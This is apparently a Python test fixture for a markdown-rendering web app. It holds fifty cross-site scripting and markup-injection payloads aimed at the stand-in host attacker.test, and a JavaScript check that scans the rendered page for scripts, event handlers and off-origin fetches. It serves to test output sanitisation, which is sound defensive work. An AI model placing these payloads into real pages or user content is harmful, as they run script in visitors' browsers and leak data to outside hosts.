"""Fifty strings that try to become markup, a request or a script; each names `attacker.test`."""

HOST = "http://attacker.test"
_SET = "window.owned=1"

PAYLOADS = (
    f"![a]({HOST}/1.png)",
    f"![a]({HOST}/2.png 'title')",
    f"[![a]({HOST}/3.png)]({HOST}/3)",
    f"![a][4]\n\n[4]: {HOST}/4.png",
    f"[click]({HOST}/5)",
    f"[click](javascript:{_SET})",
    f"[click](data:text/html,<script>{_SET}</script>)",
    f"<{HOST}/8>",
    f"{HOST}/9",
    "www.attacker.test/10",
    "mailto:x@attacker.test",
    f"<script>{_SET}</script>",
    f"<script src={HOST}/13.js></script>",
    f"<img src={HOST}/14.png>",
    f'<img src=x onerror="{_SET}">',
    f'<svg onload="{_SET}"></svg>',
    f"<svg><script>{_SET}</script></svg>",
    f"<svg><image href={HOST}/18.png></svg>",
    f"<svg><use href={HOST}/19.svg#a></use></svg>",
    f"<iframe src={HOST}/20></iframe>",
    f'<iframe srcdoc="<script>parent.{_SET}</script>"></iframe>',
    f"<object data={HOST}/22></object>",
    f"<embed src={HOST}/23>",
    f"<base href={HOST}/>",
    f'<meta http-equiv=refresh content="0;url={HOST}/25">',
    f"<link rel=stylesheet href={HOST}/26.css>",
    f"<style>@import url({HOST}/27.css);</style>",
    f"<div style=\"background:url('{HOST}/28.png')\">a</div>",
    f"<form action={HOST}/29><button>a</button></form>",
    f'<input autofocus onfocus="{_SET}">',
    f'<details open ontoggle="{_SET}"><summary>a</summary></details>',
    f"<video src={HOST}/32.mp4 autoplay></video>",
    f"<audio src={HOST}/33.mp3 autoplay></audio>",
    f"<picture><source srcset={HOST}/34.png><img></picture>",
    f'<body onload="{_SET}">',
    f'<marquee onstart="{_SET}">a</marquee>',
    f'<a href="{HOST}/37" ping="{HOST}/37">a</a>',
    f'<a href="jav&#x61;script:{_SET}">a</a>',
    f"<table background={HOST}/39.png><tr><td>a</td></tr></table>",
    f'"><img src={HOST}/40.png>',
    f"</textarea></title><script>{_SET}</script>",
    f"<!--><script>{_SET}</script>-->",
    f"<![CDATA[<script>{_SET}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src={HOST}/44.png></style></math>",
    f"$\\href{{javascript:{_SET}}}{{a}}$ $\\includegraphics{{{HOST}/45.png}}$",
    f":red[a] :material/bug_report: :badge[a] :small[![a]({HOST}/46.png)]",
    f"[^1]\n\n[^1]: ![a]({HOST}/47.png)",
    f"| a |\n|---|\n| ![a]({HOST}/48.png) |",
    f"\u202e![a]({HOST}/49.png)\u202c\u200b<b>a</b>",
    f"```\n![a]({HOST}/50.png)\n```\n<plaintext>",
)

FOUND_IN_THE_PAGE = """
() => {
  const root = document.getElementById("root");
  const bad = [];
  const other = (url) => {
    const plain = (url || "").trim();
    return plain !== "" && !/^(data:image|blob:)/.test(plain)
      && new URL(plain, location.href).origin !== location.origin;
  };
  for (const one of root.querySelectorAll("*")) {
    const name = one.tagName.toLowerCase();
    if (["script", "iframe", "object", "embed", "base", "meta", "link", "plaintext"].includes(name))
      bad.push(one.outerHTML.slice(0, 200));
    const law = name === "a"
      && (one.getAttribute("href") || "").startsWith("https://eur-lex.europa.eu/");
    if (!law && ["src", "href", "action", "data", "srcset", "background", "ping", "poster"]
        .some((key) => other(one.getAttribute(key))))
      bad.push(one.outerHTML.slice(0, 200));
    if ([...one.attributes].some((key) => key.name.startsWith("on")))
      bad.push(one.outerHTML.slice(0, 200));
    if ((one.getAttribute("style") || "").includes("attacker"))
      bad.push(one.outerHTML.slice(0, 200));
  }
  for (const style of root.querySelectorAll("style"))
    if (style.textContent.includes("attacker")) bad.push("style");
  if (window.owned) bad.push("a script has run");
  return bad;
}
"""
"""What a payload has become: nodes that fetch or run, links to elsewhere, a script that ran.

Our own links to the Official Journal are none of them.
"""
